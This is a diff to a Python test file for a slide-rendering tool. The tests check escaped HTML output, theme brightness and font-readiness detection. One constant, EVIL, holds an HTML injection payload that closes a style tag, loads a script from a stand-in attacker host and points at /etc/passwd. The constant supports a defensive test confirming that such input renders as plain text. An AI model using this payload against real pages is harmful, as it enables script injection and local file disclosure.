@@ -9,15 +9,19 @@ import pytest
 from PIL import Image, ImageChops
 from support import InProcess, TestDesk
 
+from shortsd.domain.errors import ChildFailed
 from shortsd.domain.slides import Theme
 from shortsd.domain.style import CaptionLook, CaptionStyle
 from shortsd.media import fonts
 from shortsd.media.captions.area import safe_area
 from shortsd.media.slides import page
-from shortsd.media.slides.drawers import Drawing, PillowDrawer
+from shortsd.media.slides.design import LOOKS
+from shortsd.media.slides.drawers import PROOF, Drawing, PillowDrawer
 from shortsd.media.slides.layout import Fonts, Text, room, sheets
 
 Request = Mapping[str, Any]
+TAGS = {"html", "head", "meta", "title", "style", "body", "section", "i", "div", "span", "footer", "b"}
+"""Of a page without pictures."""
 EVIL = '</style><script src="http://evil.example/x.js"></script><img src=file:///etc/passwd>'
 
 
@@ -27,8 +31,8 @@ def item(kind: str, text: str, detail: str = "") -> dict[str, str]:
 
 def pixels(file: Path) -> Image.Image:
     with Image.open(file) as opened:
-        seen: Image.Image = opened.convert("RGB")
-    return seen
+        image: Image.Image = opened.convert("RGB")
+    return image
 
 
 def board(mark: str, heading: str, *items: dict[str, str], shown: int | None = None) -> dict[str, Any]:
@@ -58,20 +62,10 @@ def common(tmp_path_factory: pytest.TempPathFactory) -> Request:
 def test_what_others_wrote_is_text(common: Request) -> None:
     """The page has no tag of theirs, asks for nothing elsewhere, and forbids both."""
     faces = Fonts.of(common["fonts"], [])
-    html = page.rendered(sheets({**common, "boards": BOARDS}), faces)
+    laid = sheets({**common, "boards": BOARDS})
+    html = page.rendered(laid, faces, page._letters(laid, faces))
     tags = re.findall(r"<(\w+)([^>]*)>", html)
-    assert {name for name, _ in tags} == {
-        "html",
-        "head",
-        "meta",
-        "title",
-        "style",
-        "body",
-        "section",
-        "i",
-        "div",
-        "span",
-    }
+    assert {name for name, _ in tags} == TAGS
     assert not any("evil" in attributes or "file:" in attributes for _, attributes in tags)
     assert "default-src 'none'" in html
     assert set(re.findall(r"url\(\"(\w+):", html)) == {"data"}
@@ -106,3 +100,23 @@ def test_captions_stand_below_all_that_is_on_a_slide(common: Request, size: tupl
     assert max(part.top + part.height for part in texts) <= free.bottom
     assert free.bottom < free.band < safe_area(*size).bottom
     assert min(part.em for part in texts) >= 0.02 * min(size)
+
+
+@pytest.mark.parametrize("theme", Theme)
+def test_no_theme_is_taken_for_black(theme: Theme) -> None:
+    """The check of a finished file counts as black what has less than a tenth of the light (BT.709)."""
+    red, green, blue = (int(LOOKS[theme].ground[at : at + 2], 16) / 255 for at in (1, 3, 5))
+    assert 0.2126 * red + 0.7152 * green + 0.0722 * blue > 0.12
+
+
+def test_a_picture_that_was_taken_too_early_is_none(tmp_path: Path) -> None:
+    """A browser that shows a font's letter in one place and nothing in the next had not made that one ready."""
+    taken = Image.new("RGB", (480, 270 + PROOF), "white")
+    taken.paste("black", (8, 280, 16, 290))
+    taken.save(tmp_path / "slides.png")
+    request = {"picture": str(tmp_path / "slides.png"), "marks": ["one"], "size": [480, 270], "to": str(tmp_path)}
+    assert page.cut({**request, "fonts": 1}, lambda *_: None) == {"slides": 1}
+    with pytest.raises(ChildFailed, match="before a font was ready"):
+        page.cut({**request, "fonts": 2}, lambda *_: None)
+    with pytest.raises(ChildFailed, match="480×302 pixels, not 480×572"):
+        page.cut({**request, "fonts": 1, "marks": ["one", "two"]}, lambda *_: None)
